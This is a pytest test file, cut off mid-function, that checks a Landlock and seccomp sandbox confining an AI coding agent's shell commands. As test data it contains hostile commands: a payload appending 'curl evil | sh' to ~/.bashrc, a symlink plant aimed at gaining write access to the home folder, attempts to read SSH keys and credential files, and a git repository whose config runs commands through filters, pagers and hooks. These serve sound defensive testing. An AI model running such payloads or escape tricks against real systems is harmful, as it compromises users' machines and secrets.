"""The OS sandbox on the real kernel: commands started through Toolbox.run (and through the real program)
are confined to what their decision granted. Each test proves what a command could not do (a file left
unwritten, a key left unread, a listener never reached), not how the sandbox was configured."""
import asyncio
import concurrent.futures
import gc
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

import context
import permissions
import sandbox
import tools
from conftest import was_reached
from fake_api import reply, text, tool_use

ABI = sandbox.probe()[0]
if not ABI:
    if os.environ.get("KHAELOR_CI"):
        raise RuntimeError(f"Landlock is required for the sandbox tests in CI: {sandbox.status()}")
    pytest.skip(f"no Landlock here ({sandbox.status()})", allow_module_level=True)

FAKE_KEY = "-----BEGIN FAKE KEY-----\nnot-a-real-key-0123456789\n-----END FAKE KEY-----\n"
APPROVED = sandbox.Confine()
READ_ONLY = sandbox.Confine(write=False)
# An approved command's write outside meets its read-only mounts (EROFS) where the kernel gives it
# a mount namespace, Landlock (EACCES) where not.
WRITE_REFUSED = ("Permission denied", "PermissionError", "Read-only file system")
HIDE = [".env", ".env.*", "*.env", "id_*", "*.pem"]


@pytest.fixture
def world(project, env, monkeypatch, tmp_path):
    """A temp HOME with a fake ssh key, a KHAELOR_HOME with a config, the project, all real directories."""
    home, khaelor_home = Path(env["HOME"]), Path(env["KHAELOR_HOME"])
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(FAKE_KEY)
    (khaelor_home / "spill").mkdir(parents=True)
    (khaelor_home / "config.json").write_text('{"permissions": []}\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("KHAELOR_HOME", str(khaelor_home))
    return SimpleNamespace(project=project, home=home, khaelor_home=khaelor_home, tmp=tmp_path)


def drive(world, scenario, abi=None):
    """Run `scenario(box)` against a real Toolbox in its own event loop, then close it."""
    async def main():
        workspace = tools.Workspace(world.project)
        if abi is not None:
            workspace.abi = abi     # 0: as on a kernel without Landlock, to test the git settings alone
        box = tools.Toolbox(workspace, world.khaelor_home, lambda *args, **fields: {}, tools.events.State)
        try:
            return await scenario(box)
        finally:
            await box.close()
    return asyncio.run(main())


async def bash(box, command, confine=APPROVED, **more):
    more = {key: tuple(value) if isinstance(value, list) else value for key, value in more.items()}
    return await box.run("bash", {"command": command}, "t1", confine=replace(confine, **more))


def connect_command(port: int) -> str:
    return (f"{sys.executable} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=3); "
            "print(\"CONNECTED\")'")


def free_port() -> int:
    with socket.socket() as probe_socket:
        probe_socket.bind(("127.0.0.1", 0))
        return probe_socket.getsockname()[1]

# ---------------------------------------------------------------- files


def test_a_command_cannot_write_into_home_and_is_told_why(world):
    target = world.home / "planted.txt"
    result = drive(world, lambda box: bash(box, f"{sys.executable} -c 'open(\"{target}\", \"w\").write(\"x\")'"))
    assert not target.exists()
    assert any(word in result.text for word in WRITE_REFUSED) and "Exit code: 1" in result.text
    assert "khaelor sandbox" in result.text and f"write access to {target}" in result.text
    assert "ask the user" in result.text and result.meta["sandbox_refused"] is True


def test_a_link_planted_in_the_temp_dir_opens_nothing_to_a_later_approved_command(world):
    """The temp dir is writable even to a read-only command, and an approved command's /dev/shm is
    a folder in it: a link put there (to the home) made the next approved command's ruleset and
    mounts grant the home writable (~/.bashrc, ~/.config/autostart) and show it as /dev/shm."""
    (world.home / ".bashrc").write_text("# the user's\n")
    (world.home / ".config").mkdir()
    (world.home / ".config" / "app").write_text("kept\n")
    # after khaelor's temp dir watch started (it makes the folder again)
    plant = 'sleep 0.5; rmdir "$TMPDIR/shm"; ln -s "$HOME" "$TMPDIR/shm"; ls -l "$TMPDIR"'
    payload = ("echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.config/app; touch $TMPDIR/shm/x; "
               "chmod 777 ~/.config; cat /dev/shm/.bashrc; ls /dev/shm")

    async def scenario(box):
        planted = await bash(box, plant, READ_ONLY)
        (world.project / "later").write_text("a later step: the ruleset is built anew")
        lock = f"{sys.executable} -c 'import multiprocessing; multiprocessing.Lock(); print(7 * 6)'"
        return planted, await bash(box, payload), await bash(box, lock)
    planted, result, lock = drive(world, scenario)
    assert f"shm -> {world.home}" in planted.text, planted.text
    assert (world.home / ".bashrc").read_text() == "# the user's\n", result.text
    assert (world.home / ".config" / "app").read_text() == "kept\n"
    assert not (world.home / "x").exists()
    assert (world.home / ".config").stat().st_mode & 0o777 != 0o777
    assert "/dev/shm/.bashrc: No such file" in result.text, result.text
    assert "42" in lock.text, lock.text     # the session's own /dev/shm is back for the next one


def test_a_fifo_left_in_place_of_the_shm_folder_stops_no_later_command(world):
    """session_temp made the folder again with mkdir(exist_ok=True), which raises for anything but
    a folder there: after `mkfifo $TMPDIR/shm` no command of the session started."""
    async def scenario(box):
        await bash(box, 'sleep 0.5; rmdir "$TMPDIR/shm"; mkfifo "$TMPDIR/shm"', READ_ONLY)
        return await bash(box, "echo started", READ_ONLY), await bash(box, "echo approved")
    read_only, approved = drive(world, scenario)
    assert "started" in read_only.text and "approved" in approved.text, read_only.text


def test_a_read_only_command_writing_an_approved_outside_file_is_told_it_needs_write_access(world):
    target = world.home / "notes.txt"
    target.write_text("kept\n")
    write = f"{sys.executable} -c 'open(\"{target}\", \"a\").write(\"x\")'"
    result = drive(world, lambda box: bash(box, write, write=False, paths=[str(target)]))
    assert target.read_text() == "kept\n" and "PermissionError" in result.text
    assert f"write access to {target}" in result.text and result.meta["sandbox_refused"] is True


def test_a_ruleset_kept_for_a_checkpoint_does_not_let_a_read_only_command_write_its_paths(world):
    """A Workspace reuses a ruleset built from the same facts; whether the approved paths are
    writable (a checkpoint's shadow repository) was not among them, so a read-only command approved
    to read the same folder got the checkpoint's write access to it (and the other way round)."""
    shadow = world.tmp / "shadow"
    shadow.mkdir()
    writer = replace(READ_ONLY, paths=(str(shadow),), paths_write=True)

    async def scenario(box):
        wrote = await bash(box, f"touch {shadow}/by-checkpoint", writer)
        await bash(box, f"touch {shadow}/by-reader", READ_ONLY, paths=[str(shadow)])
        return wrote
    wrote = drive(world, scenario)
    assert "Exit code: 0" in wrote.text and (shadow / "by-checkpoint").exists()
    assert not (shadow / "by-reader").exists()


def test_a_refusal_in_a_project_kept_under_a_folder_named_dev_is_explained(world):
    """explain took every path with "/dev/" in it for a device and said nothing of it: in a project
    kept in ~/dev, no refusal was explained."""
    project = world.home / "dev" / "app"
    project.mkdir(parents=True)
    target = project / "out.txt"
    write = f"{sys.executable} -c 'open(\"{target}\", \"w\").write(\"x\")'"
    in_dev = SimpleNamespace(**{**vars(world), "project": project})
    result = drive(in_dev, lambda box: bash(box, write, READ_ONLY))
    assert not target.exists() and "PermissionError" in result.text
    assert f"write access to {target}" in result.text and result.meta["sandbox_refused"] is True


def test_a_refused_unix_socket_is_explained_as_one_even_with_the_network(world):
    """docker's "dial unix /var/run/docker.sock: connect: permission denied" was explained as
    needing the network, which would not help: no confined command opens a unix socket."""
    path = world.tmp / "daemon.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    dial = (f"{sys.executable} -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{path}\")'"
            f" || {{ echo dial unix {path}: connect: permission denied; exit 1; }}")
    result = drive(world, lambda box: bash(box, dial, replace(APPROVED, network=True)))
    server.close()
    assert "a unix socket, which no confined command opens" in result.text
    assert "network access" not in result.text and result.meta["sandbox_refused"] is True


def test_a_command_cannot_read_the_ssh_key(world):
    key = world.home / ".ssh" / "id_rsa"
    result = drive(world, lambda box: bash(box, f"{sys.executable} -c 'print(open(\"{key}\").read())'"))
    assert "not-a-real-key" not in result.text
    assert "Permission denied" in result.text and "protected location" in result.text


def test_approving_a_file_in_a_closed_location_opens_that_file_and_not_the_location(world):
    ssh = world.home / ".ssh"
    (ssh / "config").write_text("Host example\n")

    async def scenario(box):
        named = await bash(box, f"cat {ssh}/config", READ_ONLY, paths=[str(ssh / "config")])
        # the same approval, then a script that reads the key beside it
        beside = await bash(box, f"cat {ssh}/config; cat {ssh}/id_rsa", READ_ONLY,
                            paths=[str(ssh / "config")])
        whole = await bash(box, f"cat {ssh}/id_rsa", READ_ONLY, paths=[str(ssh)])
        return named, beside, whole
    named, beside, whole = drive(world, scenario)
    assert "Host example" in named.text
    assert "Host example" in beside.text and "not-a-real-key" not in beside.text
    assert "Permission denied" in beside.text
    assert "not-a-real-key" in whole.text         # naming the location itself opens it


def test_approving_the_home_leaves_its_secret_files_closed_as_the_vocabulary_names_them(world):
    """The home's closed locations derive from SECRET_NAMES: ~/.pgpass is closed as ~/.netrc is."""
    (world.home / "notes.txt").write_text("plain notes\n")
    (world.home / ".pgpass").write_text("db:5432:*:me:pg-secret-4242\n")
    (world.home / ".netrc").write_text("machine example login me password netrc-4242\n")
    read = f"cat {world.home}/notes.txt {world.home}/.pgpass {world.home}/.netrc"
    result = drive(world, lambda box: bash(box, read, READ_ONLY, paths=[str(world.home)]))
    assert "plain notes" in result.text and "Permission denied" in result.text
    assert "pg-secret-4242" not in result.text and "netrc-4242" not in result.text


def test_the_seccomp_line_of_khaelor_permissions_names_what_the_filter_refuses():
    """It listed the refusals of an older filter: not the metadata calls nor setsid/setpgid."""
    line = {name: text for name, _, text in sandbox.layers()}["seccomp"]
    for family in ("chmod", "chown", "utime", "xattr"):
        assert any(family in call for call in sandbox.METADATA_SYSCALLS) and family in line
    assert "setsid" in line and "setpgid" in line


def test_a_secret_home_location_that_is_a_link_is_secret_where_it_leads(tmp_path):
    """The permission layer compares resolved paths: a ~/.kube linked into a dotfiles folder
    was not secret there (the kernel's closed locations resolve theirs)."""
    (tmp_path / "dotfiles" / "kube").mkdir(parents=True)
    (tmp_path / ".kube").symlink_to("dotfiles/kube")
    kept = os.path.realpath(tmp_path / "dotfiles" / "kube" / "config")
    assert sandbox.is_secret_path(kept, str(tmp_path))
    assert not sandbox.is_secret_path(os.path.realpath(tmp_path / "dotfiles" / "vimrc"), str(tmp_path))


def test_a_folder_swapped_for_a_link_while_the_ruleset_is_built_grants_nothing_beyond_it(world, monkeypatch):
    """A background process may turn a project folder into a link to ~/.ssh between the ruleset's
    listing of the project (it walks it when a secret file there is left out) and its rule for that
    folder: the rule then grants nothing, rather than the folder the link leads to."""
    (world.project / "src").mkdir()
    (world.project / ".env").write_text("API_KEY=real-4242\n")
    listing = os.scandir

    def swapping(path="."):
        if path != str(world.project):
            return listing(path)
        entries = list(listing(path))
        (world.project / "src").rmdir()
        (world.project / "src").symlink_to(world.home / ".ssh")
        return entries
    monkeypatch.setattr(os, "scandir", swapping)
    ruleset = sandbox.build_ruleset(READ_ONLY, world.project, None, world.home, world.khaelor_home,
                                    set(), [str(world.project / ".env")])
    monkeypatch.undo()
    try:
        read = subprocess.run(["cat", str(world.home / ".ssh" / "id_rsa")], capture_output=True,
                              text=True, preexec_fn=sandbox.child_hook(ruleset, None, []))
    finally:
        os.close(ruleset)
    assert "not-a-real-key" not in read.stdout and "Permission denied" in read.stderr


def test_a_command_cannot_rewrite_the_khaelor_config_but_reads_its_own_spill_files(world):
    """A spill file holds whatever a command printed (another project's .env, its tokens): a
    read-only command, run with no question, reads its own project's spill files, which its
    results point at, and never another project's."""
    config = world.khaelor_home / "config.json"
    other = sandbox.spill_folder(world.khaelor_home, world.tmp / "other-project")
    other.mkdir(parents=True)
    (other / "out.txt").write_text("OTHER_PROJECT_TOKEN\n")

    async def scenario(box):
        # a ruleset built before this project's first spill is kept, and must still read it
        await bash(box, "true", READ_ONLY)
        rewrite = await bash(box, f"{sys.executable} -c 'open(\"{config}\", \"w\").write(\"{{}}\")'")
        peek = await bash(box, f"cat {config}")
        long = await bash(box, "seq 1 100000", READ_ONLY)
        own = await bash(box, f"tail -n 1 {long.meta['spill']}", READ_ONLY)
        stolen = await bash(box, f"cat {other}/out.txt; ls {other.parent}", READ_ONLY)
        return rewrite, peek, own, stolen
    rewrite, peek, own, stolen = drive(world, scenario)
    assert config.read_text() == '{"permissions": []}\n'
    assert any(word in rewrite.text for word in WRITE_REFUSED)
    assert "permissions" not in peek.text.split("Exit code")[0]
    assert own.text.startswith("100000")
    assert "OTHER_PROJECT_TOKEN" not in stolen.text and "Permission denied" in stolen.text


def test_an_approved_command_writes_inside_the_project_and_nowhere_else(world):
    outside = world.tmp / "outside.txt"
    result = drive(world, lambda box: bash(box, f"echo made > inside.txt && cat inside.txt; echo x > {outside}"))
    assert (world.project / "inside.txt").read_text() == "made\n"
    assert not outside.exists() and "made" in result.text


def test_a_read_only_command_cannot_write_even_in_the_project(world):
    async def scenario(box):
        return await bash(box, "echo x > made.txt", READ_ONLY), await bash(box, "echo x > /dev/null && echo null-ok",
                                                                          READ_ONLY)
    denied, null = drive(world, scenario)
    assert not (world.project / "made.txt").exists()
    assert "Permission denied" in denied.text and "khaelor sandbox" in denied.text
    assert "null-ok" in null.text


def test_an_approved_outside_path_is_writable_and_no_other(world):
    approved, other = world.tmp / "approved", world.tmp / "other"
    approved.mkdir()
    other.mkdir()
    result = drive(world, lambda box: bash(box, f"echo a > {approved}/f && echo b > {other}/f",
                                           paths=[str(approved)]))
    assert (approved / "f").read_text() == "a\n"
    assert not (other / "f").exists() and any(word in result.text for word in WRITE_REFUSED)


def test_an_approved_path_still_to_be_made_can_be_made_except_beside_a_closed_location(world):
    """Making a name needs rights on its folder, and Landlock rights are inherited: in a folder that
    holds a closed location (here HOME, beside ~/.ssh) granting them would open that location too."""
    (world.tmp / "area").mkdir()
    fresh, beside_ssh = world.tmp / "area" / "fresh" / "deeper", world.home / "new.txt"

    async def scenario(box):
        made = await bash(box, f"mkdir -p {fresh} && echo a > {fresh}/f", paths=[str(fresh)])
        refused = await bash(box, f"echo b > {beside_ssh}", paths=[str(beside_ssh)])
        return made, refused
    made, refused = drive(world, scenario)
    assert (fresh / "f").read_text() == "a\n", made.text
    assert not beside_ssh.exists() and "khaelor sandbox" in refused.text


def test_without_a_confine_a_call_runs_as_an_ordinary_approved_command(world, listener):
    async def scenario(box):
        command = f"echo x > made.txt; echo y > {world.home}/planted; {connect_command(listener.getsockname()[1])}"
        return await box.run("bash", {"command": command}, "t1")
    result = drive(world, scenario)
    assert (world.project / "made.txt").exists() and not (world.home / "planted").exists()
    assert not was_reached(listener) and "CONNECTED" not in result.text


def test_the_session_temp_dir_serves_mktemp_pytest_and_multiprocessing_and_goes_at_close(world):
    (world.project / "test_tiny.py").write_text(
        "def test_tmp_path_works(tmp_path):\n    (tmp_path / 'x').write_text('1')\n"
        "    assert (tmp_path / 'x').read_text() == '1'\n")

    async def scenario(box):
        made = await bash(box, "mktemp")
        # without the plugins the suite too leaves out (pyproject's addopts): ~1.1 s of CPU
        tests = await bash(box, f"{sys.executable} -m pytest -q -p no:cacheprovider -p no:anyio "
                                "-p no:hypothesispytest -p no:benchmark test_tiny.py")
        pool = await bash(box, f"{sys.executable} -c 'import concurrent.futures as f; "
                               "print(\"POOL\", sum(f.ProcessPoolExecutor(2).map(abs, [-1, -2])))'")
        return made, tests, pool, box.workspace.temp_dir
    made, tests, pool, temp_dir = drive(world, scenario)
    assert "POOL 3" in pool.text, pool.text       # semaphores live in /dev/shm
    assert made.meta["exit_code"] == 0 and made.text.startswith(str(temp_dir) + "/")
    assert "1 passed" in tests.text, tests.text
    assert not temp_dir.exists()


def test_the_ruleset_fd_is_closed_in_the_child_and_in_khaelor(world):
    def landlock_fds(pid="self"):
        links = []
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                links.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                continue
        return [link for link in links if "landlock" in link]
    gc.collect()                # earlier tests' workspaces in this worker: closed now, not meanwhile
    held = landlock_fds()       # what may still be open stays; this test's own must not add one
    result = drive(world, lambda box: bash(box, f"ls -l /proc/$$/fd; echo x > {world.home}/f; echo done"))
    assert "done" in result.text and "landlock" not in result.text
    assert not (world.home / "f").exists()      # the fd was there when the child entered the sandbox
    assert len(landlock_fds()) <= len(held)     # the Toolbox's own were closed with it

# ---------------------------------------------------------------- network and signals


def test_a_command_cannot_connect_to_a_local_listener_without_network(world, listener):
    result = drive(world, lambda box: bash(box, connect_command(listener.getsockname()[1])))
    assert not was_reached(listener)
    assert "CONNECTED" not in result.text and "network access" in result.text


def test_a_short_command_khaelor_runs_for_itself_is_refused_a_connect_at_once(world, listener):
    """Workspace.capture (git for a checkpoint, a check's probe) with a write confine built a
    connect supervisor that nothing started: a connect() hung until the capture timed out."""
    workspace = tools.Workspace(world.project)
    start = time.monotonic()
    code, out = workspace.capture(["sh", "-c", connect_command(listener.getsockname()[1])],
                                  confine=APPROVED, timeout_s=20)
    assert time.monotonic() - start < 10 and code == 1 and "CONNECTED" not in out, (code, out)
    assert not was_reached(listener)


def test_an_approved_network_command_connects(world, listener):
    result = drive(world, lambda box: bash(box, connect_command(listener.getsockname()[1]), network=True))
    assert was_reached(listener) and "CONNECTED" in result.text


def test_a_dev_server_started_with_process_is_reachable_from_later_commands(world, listener):
    port = free_port()

    async def scenario(box):
        started = await box.run("process", {"action": "start", "command": f"{sys.executable} -m http.server {port} "
                                            "--bind 127.0.0.1"}, "t1", confine=APPROVED)
        deadline = time.monotonic() + 15
        while port not in sandbox.listening_ports(box.groups) and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        fetch = (f"{sys.executable} -c 'import urllib.request; print(\"STATUS\", urllib.request.urlopen("
                 f"\"http://127.0.0.1:{port}/\").status)'")
        reached = await bash(box, fetch)
        curl = await bash(box, f"curl -s -o /dev/null -w 'CURL %{{http_code}}' http://127.0.0.1:{port}/") \
            if shutil.which("curl") else None
        foreign = await bash(box, connect_command(listener.getsockname()[1]))
        return started, reached, curl, foreign
    started, reached, curl, foreign = drive(world, scenario)
    assert "Started p1" in started.text
    assert "STATUS 200" in reached.text, reached.text
    assert curl is None or "CURL 200" in curl.text
    assert "CONNECTED" not in foreign.text and not was_reached(listener)   # only the session's own ports


def test_a_session_server_lends_its_port_to_no_other_program_listening_on_it(world):
    """The supervisor let a connect through by its port alone: a session server on 127.0.0.2:P
    opened 127.0.0.1:P, where another program listens (a Redis, a database without a password)."""
    theirs = socket.socket()
    theirs.bind(("127.0.0.1", 0))
    theirs.listen()
    theirs.settimeout(0.1)
    port = theirs.getsockname()[1]

    async def scenario(box):
        await box.run("process", {"action": "start", "command": f"{sys.executable} -m http.server "
                                  f"{port} --bind 127.0.0.2"}, "t1", confine=APPROVED)
        deadline = time.monotonic() + 15
        while f"0200007F:{port:04X} 00000000:0000 0A" not in Path("/proc/net/tcp").read_text() \
                and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
        return await bash(box, connect_command(port))
    result = drive(world, scenario)
    assert "CONNECTED" not in result.text and not was_reached(theirs), result.text
    theirs.close()

@pytest.mark.skipif(ABI < 6, reason="signal scoping needs Landlock ABI 6")
def test_a_command_cannot_signal_a_process_outside_its_sandbox(world):
    outsider = subprocess.Popen(["sleep", "60"])
    try:
        result = drive(world, lambda box: bash(box, f"kill -TERM {outsider.pid}; sleep 30 & kill $!; wait $!; "
                                               "echo own child: $?"))
        time.sleep(0.2)
        assert outsider.poll() is None
        assert "Operation not permitted" in result.text
        assert "own child: 143" in result.text      # its own children it may still stop
    finally:
        outsider.kill()
        outsider.wait()

# ---------------------------------------------------------------- git: a repository runs no code


def hostile_repository(project: Path, markers: Path) -> None:
    """A repository whose own config runs a marker-writing command from every hook git offers it."""
    shutil.rmtree(project / ".git")
    markers.mkdir()
    git = ["git", "-C", str(project)]
    subprocess.run([*git, "init", "-q"], check=True)
    (project / ".gitattributes").write_text("a.txt filter=evil diff=evil\nb.txt filter=proc\n")
    (project / "a.txt").write_text("hello\n")
    (project / "b.txt").write_text("bee\n")
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"], check=True)
    for key, name in [("core.fsmonitor", "fsmonitor"), ("diff.external", "external"), ("core.pager", "pager"),
                      ("filter.evil.clean", "clean"), ("filter.evil.smudge", "smudge"), ("diff.evil.textconv",
                      "textconv"), ("diff.evil.command", "command"), ("filter.proc.process", "process")]:
        subprocess.run([*git, "config", key, f"sh -c 'touch {markers}/{name}; cat'"], check=True)
    (project / "hooks").mkdir()
    (project / "hooks" / "post-index-change").write_text(f"#!/bin/sh\ntouch {markers}/hook\n")
    (project / "hooks" / "post-index-change").chmod(0o755)
    subprocess.run([*git, "config", "core.hooksPath", str(project / "hooks")], check=True)
    for name in ("a.txt", "b.txt"):     # changed, with an old mtime: git must re-read them through the filters
        with open(project / name, "a") as handle:
            handle.write("more\n")
        os.utime(project / name, (1_000_000_000, 1_000_000_000))


@pytest.mark.parametrize("abi", [ABI, 0], ids=["landlock", "git-settings-alone"])
def test_a_hostile_repository_runs_no_code_in_khaelors_git_calls_or_a_read_only_git_diff(world, abi):
    markers = world.tmp / "markers"
    hostile_repository(world.project, markers)

    async def scenario(box):
        baseline = context.git_baseline(box.workspace)
        diff = await bash(box, "git diff --no-ext-diff; git status --short; git log -p -1", READ_ONLY)
        return baseline, diff
    baseline, diff = drive(world, scenario, abi=abi)
    assert sorted(os.listdir(markers)) == []
    assert baseline["git"] and "+more" in diff.text and "Exit code: 0" in diff.text


def test_an_approved_command_under_landlock_cannot_plant_a_marker_outside_the_project(world):
    markers = world.tmp / "markers"
    hostile_repository(world.project, markers)
    result = drive(world, lambda box: bash(box, "git diff; git status --short"))
    assert sorted(os.listdir(markers)) == []
    assert "not running the diff command this repository configures" in result.text

# ---------------------------------------------------------------- the glob translator


def test_glob_regex_matches_as_gits_wildmatch():
    """git's own wildmatch cases (tests/data/globs.json, t3070's first column: WM_PATHNAME, case
    kept), whole path against whole pattern: `*`, `?` and a [class] never cross "/", `**` only as
    a whole component, a backslash escapes, [!x] []] [a-] [[:digit:]]. The agreements are
    counted; each difference the corpus marks disputed, with the reason."""
    cases = json.loads((Path(__file__).parent / "data" / "globs.json").read_text())["cases"]
    agreed = 0
    for case in [case for case in cases if "wildmatch" in case["stated"]]:
        matched = re.fullmatch(sandbox.glob_regex(case["pattern"]), case["path"]) is not None
        if matched == case["stated"]["wildmatch"]:
            agreed += 1
        else:
            assert "wildmatch" in case.get("disputed", {}), case
    assert agreed == 183


# ---------------------------------------------------------------- secrets in grep, glob and every output


def secret_project(world) -> None:
    (world.project / ".env").write_text('API_TOKEN="tok-0123456789abcdef"\nPORT=8000\n')
    (world.project / "config").mkdir()
    (world.project / "config" / ".env.local").write_text("API_TOKEN=local-0123456789\n")
    (world.project / "id_deploy").write_text("API_TOKEN in a key file\n")
    (world.project / "app.py").write_text("import os\nAPI_TOKEN = os.environ['API_TOKEN']\n")


@pytest.mark.parametrize("tool,args", [("grep", {"pattern": "API_TOKEN"}), ("glob", {"pattern": "**/*"})])
def test_grep_and_glob_leave_out_secret_files_alike_on_both_engines(world, tool, args):
    """Both engines where ripgrep is installed (CI insists on it); elsewhere the Python engine alone
    is checked and the test then says, as its skip reason, that the comparison did not run."""
    secret_project(world)
    confine = replace(APPROVED, hide=tuple(HIDE))
    compare = shutil.which("rg") is not None or bool(os.environ.get("KHAELOR_CI"))

    async def scenario(box):
        with_rg = None
        if compare:
            assert box.ripgrep, "ripgrep (rg) is needed to compare the engines: install it"
            with_rg = await box.run(tool, args, "t1", confine=confine)
        granted = await box.run(tool, args, "t2", confine=replace(confine, secrets=True))
        box.ripgrep = None
        python = await box.run(tool, args, "t3", confine=confine)
        return with_rg, granted, python
    with_rg, granted, python = drive(world, scenario)
    assert "app.py" in python.text and "3 secret files left out" in python.text
    shown = python.text.split("\n\n(")[0].splitlines()
    assert not [line for line in shown if line.startswith((".env", "config/.env", "id_deploy"))]
    assert [line for line in granted.text.splitlines() if line.startswith(".env")]
    assert "config/.env.local" in granted.text and "left out" not in granted.text
    if not compare:
        pytest.skip("ripgrep (rg) is not installed: the Python engine was checked, not compared")
    assert with_rg.text == python.text


def test_a_link_to_a_secret_location_is_left_out_by_grep(world):
    (world.home / ".aws").mkdir()
    (world.home / ".aws" / "credentials").write_text("aws_secret_access_key = AKIAFAKEFAKE\n")
    (world.project / "notes.txt").symlink_to(world.home / ".aws" / "credentials")

    async def scenario(box):
        box.ripgrep = None      # the Python fallback reads in khaelor's own process, which Landlock does not confine
        return await box.run("grep", {"pattern": "aws_secret"}, "t1", confine=APPROVED)
    assert "AKIAFAKE" not in drive(world, scenario).text


def test_values_from_the_projects_env_files_are_masked_and_refreshed(world):
    secret_project(world)
    (world.project / "deploy.env").write_text("export DEPLOY_KEY='deploy-key-777777'  \n")
    (world.project / ".env.example").write_text("API_TOKEN=your-token-goes-here\n")

    async def scenario(box):
        templates = await bash(box, "cat deploy.env .env.example")
        first = await bash(box, "cat .env")
        (world.project / ".env").write_text("API_TOKEN=tok-rotated-99999999\n")
        os.utime(world.project / ".env", ns=(time.time_ns(), time.time_ns() + 10_000_000))
        second = await bash(box, "cat .env")
        started = await box.run("process", {"action": "start", "command": "cat .env; sleep 5"}, "t3")
        later = await box.run("process", {"action": "read", "id": "p1"}, "t4")
        return templates, first, second, SimpleNamespace(text=started.text + later.text)
    templates, first, second, background = drive(world, scenario)
    assert "deploy-key-777777" not in templates.text and "your-token-goes-here" in templates.text
    assert "tok-0123456789abcdef" not in first.text and "PORT=8000" in first.text
    assert "redacted: a value from the project's .env file" in first.text
    assert "tok-rotated-99999999" not in second.text and "redacted" in second.text
    assert "tok-rotated-99999999" not in background.text and "redacted" in background.text

def test_env_values_stay_masked_while_the_project_cannot_be_listed(world, monkeypatch):
    """A step's `chmod 000 .` made the listing fail, and the known values were dropped: the next
    output showed them. (As root the chmod changes nothing, so the listing's failure is made.)"""
    secret_project(world)

    async def scenario(box):
        await bash(box, "true")
        real_scandir = os.scandir

        def unreadable(path="."):
            if isinstance(path, (str, Path)) and Path(path) == world.project:
                raise PermissionError(13, "Permission denied", str(path))
            return real_scandir(path)
        monkeypatch.setattr(os, "scandir", unreadable)
        return await bash(box, "cat .env")
    shown = drive(world, scenario)
    assert "tok-0123456789abcdef" not in shown.text and "redacted" in shown.text

# ---------------------------------------------------------------- the real program


def test_khaelor_permissions_prints_the_sandbox_state(khaelor):
    result = khaelor.run("permissions")
    assert result.returncode == 0, result.stderr
    assert f"sandbox: landlock ABI {ABI}" in result.stdout


def test_under_yes_python_cannot_touch_home_keys_config_or_a_listener(khaelor, fake, project, env, listener):
    home, khaelor_home = Path(env["HOME"]), Path(env["KHAELOR_HOME"])
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(FAKE_KEY)
    khaelor_home.mkdir(parents=True)
    (khaelor_home / "config.json").write_text("{}\n")
    port = listener.getsockname()[1]
    script = ("import socket\n"
              "for what, act in [('home', lambda: open(HOME + '/planted', 'w')), ('key', lambda: print(open(HOME + "
              "'/.ssh/id_rsa').read())), ('config', lambda: open(KH + '/config.json', 'w').write('{\"x\": 1}')),"
              f" ('listener', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3)),"
              " ('project', lambda: open('made.txt', 'w').write('ok'))]:\n"
              "    try:\n        act()\n        print(what, 'DONE')\n"
              "    except OSError as exc:\n        print(what, 'REFUSED', exc.errno)\n")
    (project / "probe.py").write_text(script.replace("HOME", repr(str(home))).replace("KH", repr(str(khaelor_home))))
    fake.enqueue(reply(tool_use("bash", {"command": f"{sys.executable} probe.py"})), reply(text("done")))
    result = khaelor.run("-p", "probe the sandbox", "--yes")
    assert result.returncode == 0, result.stderr
    output = [b for m in fake.requests[-1]["body"]["messages"] for b in m["content"] if b["type"] == "tool_result"]
    output = output[0]["content"] if isinstance(output[0]["content"], str) else output[0]["content"][0]["text"]
    assert not (home / "planted").exists() and "not-a-real-key" not in output
    assert (khaelor_home / "config.json").read_text() == "{}\n" and not was_reached(listener)
    assert (project / "made.txt").read_text() == "ok" and "project DONE" in output
    for what in ("key", "listener"):
        assert f"{what} REFUSED 13" in output, output
    for what in ("home", "config"):
        assert f"{what} REFUSED 13" in output or f"{what} REFUSED 30" in output, output


def test_a_hostile_repository_runs_no_code_through_the_real_program(khaelor, fake, project, tmp_path):
    """Without --yes: khaelor's own git calls (the baseline, the per-turn status) and the model's
    `git diff`, which runs silently as a read-only command."""
    markers = tmp_path / "markers"
    hostile_repository(project, markers)
    fake.enqueue(reply(tool_use("bash", {"command": "git diff"})), reply(text("looked")))
    result = khaelor.run("-p", "what changed?")
    assert result.returncode == 0, result.stderr
    output = [b for m in fake.requests[-1]["body"]["messages"] for b in m["content"] if b["type"] == "tool_result"]
    assert sorted(os.listdir(markers)) == []
    assert "not running the diff command this repository configures" in str(output[0]["content"])


def test_under_yes_an_approved_network_command_connects(khaelor, fake, listener):
    """Needs the kernel to pass the decision's confine (network: True for curl to a URL)."""
    port = listener.getsockname()[1]
    fake.enqueue(reply(tool_use("bash", {"command": f"curl -s -m 3 http://127.0.0.1:{port}/"})), reply(text("done")))
    # the listener hangs up on the first connection, so that curl ends then, not after its -m 3
    reached = concurrent.futures.ThreadPoolExecutor(1).submit(hang_up_once, listener)
    result = khaelor.run("-p", "fetch it", "--yes")
    assert result.returncode == 0, result.stderr
    assert reached.result()


def hang_up_once(listener, timeout=30) -> bool:
    """Accept one connection and close it; whether one came within `timeout`."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if was_reached(listener):
            return True
    return False


def make_wheel(directory: Path) -> Path:
    """A minimal pure-Python wheel (no build step, no index): what `pip install` gets from PyPI."""
    import base64
    import hashlib
    import zipfile
    files = {"tinypkg/__init__.py": "X = 1\n",
             "tinypkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
